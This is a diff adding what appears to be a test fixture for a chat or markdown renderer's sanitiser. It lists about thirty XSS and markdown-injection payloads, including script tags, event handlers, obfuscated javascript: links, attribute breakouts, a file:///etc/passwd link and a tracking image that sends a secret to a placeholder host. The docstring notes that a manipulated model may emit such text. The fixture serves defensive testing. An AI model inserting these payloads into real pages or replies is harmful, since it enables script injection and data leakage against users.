@@ -1,0 +1,41 @@
+"""What an attacker, or a model that an attacker has talked to, may write."""
+
+MARK = "pwned"
+SCRIPT = f"window.{MARK}=1"
+
+PAYLOADS = [
+    f"<script>{SCRIPT}</script>",
+    f"<img src=x onerror={SCRIPT}>",
+    f"<svg onload={SCRIPT}>",
+    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
+    f"<a href='javascript:{SCRIPT}'>click</a>",
+    f"[click](javascript:{SCRIPT})",
+    f"[click](JaVaScRiPt:{SCRIPT})",
+    f"[click](&#106;avascript:{SCRIPT})",
+    f"[click](  javascript:{SCRIPT})",
+    f"[click](java\tscript:{SCRIPT})",
+    f"[click](\x01javascript:{SCRIPT})",
+    f"[click](vbscript:{SCRIPT})",
+    f"[click](data:text/html,<script>{SCRIPT}</script>)",
+    f"[click](blob:http://127.0.0.1/{SCRIPT})",
+    "[click](file:///etc/passwd)",
+    f"![image](javascript:{SCRIPT})",
+    "![tracked](http://tracker.invalid/pixel.png?secret=1)",
+    f'![x](x"onerror="{SCRIPT})',
+    f'[x](http://127.0.0.1/" onmouseover="{SCRIPT})',
+    f'http://127.0.0.1/"onclick={SCRIPT}',
+    f"[[x](javascript:{SCRIPT})](javascript:{SCRIPT})",
+    f"```<img/src=x onerror={SCRIPT}>\ncode\n```",
+    f"```js onload={SCRIPT}\nalert(1)\n```",
+    f"`<script>{SCRIPT}</script>`",
+    f"| <script>{SCRIPT}</script> | [a](javascript:{SCRIPT}) |\n|---|---|\n| <b id=x> | x |\n",
+    f"1. <details open ontoggle={SCRIPT}>\n",
+    f"- [ ] <input autofocus onfocus={SCRIPT}>\n",
+    f"> <body onload={SCRIPT}>\n",
+    f"</div></claw-chat><script>{SCRIPT}</script>",
+    f"<style>@import 'javascript:{SCRIPT}'</style>",
+    f"<base href='javascript:{SCRIPT}//'>",
+    f"<math><mtext><img src=x onerror={SCRIPT}></mtext></math>",
+    f"<form action=javascript:{SCRIPT}><button>go</button></form>",
+    "[link](//tracker.invalid/x)",
+]
